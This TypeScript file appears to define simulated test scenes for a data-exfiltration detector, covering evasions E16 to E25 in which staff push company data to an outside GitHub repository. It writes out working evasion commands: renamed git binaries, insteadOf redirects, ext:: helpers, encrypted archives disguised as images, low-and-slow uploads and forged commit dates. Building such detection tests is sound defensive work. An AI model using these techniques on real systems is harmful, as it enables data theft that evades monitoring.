/** E16 to E25: which tool sends, and how it dresses what it sends. */
import { createFile } from "../sensors/endpoint.ts";
import { githubPushHook, personAtGithub } from "../sensors/repository.ts";
import type { Repository } from "../company.ts";
import { post, pushRequests, run, send, MINUTE, SECOND, type Evasion } from "./scene.ts";

const MEGABYTE = 1_000_000;
const OUTSIDE = "https://github.com/n1ght/notes.git";

export const tool: readonly Evasion[] = [
  {
    id: "E16",
    title: "git under another name",
    signal: "the name in its version resource, the grammar of its arguments, its requests",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-original-name": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.windowsDeveloper, scene.time(11), ["updater.exe", "push", OUTSIDE, "HEAD:main"], {
            image: "C:\\Users\\Public\\updater.exe",
            originalName: "git.exe",
          }),
      },
      "seen-inspected": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "github.com", pushRequests("n1ght/notes", MEGABYTE), {
            userAgent: "updater/1.0",
          }),
      },
      "seen-linux-arguments": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), ["helper", "push", OUTSIDE, "HEAD:main"], {
            image: "/tmp/.x/helper",
          }),
      },
    },
    limits: "A renamed program that reads its remote from a configuration file.",
  },
  {
    id: "E17",
    title: "A library instead of git",
    signal: "git's protocol on the wire, whatever speaks it",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-library": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "github.com", pushRequests("n1ght/notes", MEGABYTE), {
            userAgent: "JGit/6.10.0",
          }),
      },
      "seen-command-line-client": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), [
            "gh",
            "repo",
            "create",
            "n1ght/notes",
            "--private",
            "--source=.",
            "--push",
          ]),
      },
    },
    limits: "A library inside another program starts no process to see.",
  },
  {
    id: "E18",
    title: "curl, PowerShell, Python, the browser",
    signal: "command line, path",
    behaviours: ["api-upload"],
    examples: {
      "seen-powershell": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.clerk, scene.time(11), [
            "powershell.exe",
            "-Command",
            "Invoke-RestMethod -Method Put -Uri https://api.github.com/repos/n1ght/notes/contents/a -Body $b",
          ]),
      },
      "seen-python": {
        lanes: ["url"],
        play: (scene) =>
          send(
            scene,
            scene.developer,
            scene.time(11),
            "api.github.com",
            [post("/repos/n1ght/notes/contents/a", 400_000, { method: "PUT" })],
            { userAgent: "python-requests/2.32.3" },
          ),
      },
      "seen-browser": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.clerk, scene.time(11), "github.com", [
            { method: "GET", path: "/n1ght/notes/upload/main", received: 60_000 },
            post("/n1ght/notes/upload/main", 3 * MEGABYTE, { status: 302 }),
          ]),
      },
    },
    limits: "A script whose address is built at run time shows only its connection.",
  },
  {
    id: "E19",
    title: "git told by configuration: sshCommand, ext::, insteadOf, extra headers",
    signal: "the arguments, the rewritten address, the transfer helper's command line",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-instead-of": {
        lanes: ["endpoint"],
        play: (scene) => {
          const time = scene.time(11);
          run(scene, scene.developer, time, [
            "git",
            "config",
            "url.https://github.com/n1ght/.insteadOf",
            "https://github.com/acme/",
          ]);
          const git = run(scene, scene.developer, time + 20 * SECOND, ["git", "push", "origin", "main"]);
          run(scene, scene.developer, time + 21 * SECOND, ["git-remote-https", "origin", OUTSIDE], {
            parent: git,
            image: "/usr/lib/git-core/git-remote-https",
          });
        },
      },
      "seen-ssh-command": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), [
            "git",
            "-c",
            "core.sshCommand=ssh -i /tmp/.k",
            "push",
            "git@github.com:n1ght/notes.git",
            "main",
          ]),
      },
      "seen-header": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), [
            "git",
            "-c",
            "http.extraheader=Authorization: Basic eA==",
            "push",
            OUTSIDE,
            "main",
          ]),
      },
      "seen-external-helper": {
        lanes: ["endpoint"],
        play: (scene) =>
          void run(scene, scene.developer, scene.time(11), ["git", "push", "ext::/tmp/.t/tunnel %S notes", "main"]),
      },
    },
    limits: "`ext::` hands the transfer to a program: that it was pushed shows, where to does not.",
  },
  {
    id: "E20",
    title: "Low and slow",
    signal: "the same repository or machine, hour after hour and day after day",
    behaviours: ["low-and-slow"],
    examples: {
      "seen-hours": {
        lanes: ["url"],
        play: (scene) => {
          for (let hour = 8; hour < 18; hour++)
            send(scene, scene.clerk, scene.time(hour), "api.github.com", [
              post(`/repos/n1ght/notes/contents/${hour}`, 20_000, { method: "PUT" }),
            ]);
        },
      },
      "seen-days": {
        lanes: ["url"],
        play: (scene) => {
          for (const day of [-2, -1, 0, 1])
            send(scene, scene.developer, scene.time(11 + day, day), "github.com", pushRequests("n1ght/notes", 300_000));
        },
      },
      "seen-around-the-clock": {
        lanes: ["sni"],
        play: (scene) => {
          for (let hour = 0; hour < 24; hour++)
            send(scene, scene.clerk, scene.time(hour), "github.com", [{ method: "POST", path: "/", sent: 20_000 }]);
        },
      },
    },
    limits: "A machine that develops and a repository that does not show: kilobytes a day stay below every habit.",
  },
  {
    id: "E21",
    title: "Split over repositories, accounts and machines",
    signal: "every push by itself; the owner that many write to for the first time",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-each": {
        lanes: ["url"],
        play: (scene) => {
          ["a", "b", "c", "d", "e", "f"].forEach((name, index) =>
            send(
              scene,
              index % 2 === 0 ? scene.developer : scene.windowsDeveloper,
              scene.time(10 + index),
              "github.com",
              pushRequests(`n${index}ght/${name}`, 200_000),
            ),
          );
        },
      },
      "unseen-bytes": {
        lanes: ["sni", "flow"],
        play: (scene) => {
          const staff = scene.world.company.people.filter(({ developer }) => !developer).slice(0, 5);
          staff.forEach((person, index) =>
            send(scene, person, scene.time(10 + index), "api.github.com", [post("/", 600_000)]),
          );
        },
      },
    },
    limits: "Bytes alone, spread over machines so that each stays below its threshold.",
  },
  {
    id: "E22",
    title: "Within work hours",
    signal: "everything but the hour",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-noon": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(12), "github.com", pushRequests("n1ght/notes", 300_000)),
      },
    },
    limits: "Work hours only add to what is found; nothing depends on them.",
  },
  {
    id: "E23",
    title: "Renamed, encrypted or nested archives",
    signal: "the tool that packs, then the transfer",
    behaviours: ["stage-then-send", "push-to-unsanctioned-repository"],
    examples: {
      "seen-password": {
        lanes: ["endpoint"],
        play: (scene) => {
          const { world, clerk } = scene;
          const zip = run(scene, clerk, scene.time(11), [
            "7z.exe",
            "a",
            "-mhe=on",
            "-pTulip7",
            "holiday.png",
            "Finance",
          ]);
          createFile(world, scene.time(11) + 5 * SECOND, zip, "C:\\Users\\Public\\holiday.png");
          run(scene, clerk, scene.time(11) + 3 * MINUTE, ["git.exe", "push", OUTSIDE, "main"]);
        },
      },
      "seen-age": {
        lanes: ["endpoint"],
        play: (scene) => {
          run(scene, scene.developer, scene.time(11), ["age", "-r", "age1qz", "-o", "logo.svg", "dump.sql"]);
          run(scene, scene.developer, scene.time(11) + 3 * MINUTE, ["git", "push", OUTSIDE, "main"]);
        },
      },
    },
    limits: "An archive packed by a library of the program that sends it.",
  },
  {
    id: "E24",
    title: "Hidden in source text, pictures or notebooks",
    signal: "where it goes, not what it is",
    behaviours: ["push-to-unsanctioned-repository"],
    examples: {
      "seen-outside": {
        lanes: ["url"],
        play: (scene) =>
          send(scene, scene.developer, scene.time(11), "github.com", pushRequests("n1ght/notebooks", 2 * MEGABYTE)),
      },
      "unseen-own-public": {
        lanes: ["audit"],
        play: (scene) => {
          const { world, random, developer } = scene;
          const repository = world.company.repositories.find(({ name }) => name === "website") as Repository;
          githubPushHook(world, {
            time: scene.time(11),
            actor: personAtGithub(world, developer, developer.workstation, "git/2.47.1"),
            repository,
            ref: "refs/heads/main",
            message: "Update the logo",
            modified: ["assets/logo.png", "src/data.ts"],
            random,
          });
        },
      },
    },
    limits:
      "Contents are not read here: what is hidden in a push to a public repository of the organisation looks like work.",
  },
  {
    id: "E25",
    title: "Forged dates, rewritten history, a branch pushed and deleted",
    signal: "the time the log was written, not the commit's; the push itself",
    behaviours: ["push-to-unsanctioned-repository", "off-hours-activity"],
    examples: {
      "seen-dates": {
        lanes: ["endpoint"],
        play: (scene) => {
          run(scene, scene.developer, scene.time(2), ["git", "commit", "--amend", "--date=2026-03-17T11:00:00"]);
          run(scene, scene.developer, scene.time(2) + 30 * SECOND, ["git", "push", "--force", OUTSIDE, "+HEAD:tmp"]);
        },
      },
      "seen-deleted": {
        lanes: ["url"],
        play: (scene) => {
          send(scene, scene.developer, scene.time(11), "github.com", pushRequests("n1ght/notes", 900_000));
          send(scene, scene.developer, scene.time(11) + 5 * MINUTE, "github.com", pushRequests("n1ght/notes", 200));
        },
      },
    },
    limits: "Branches of the organisation's own repositories come and go all day.",
  },
];
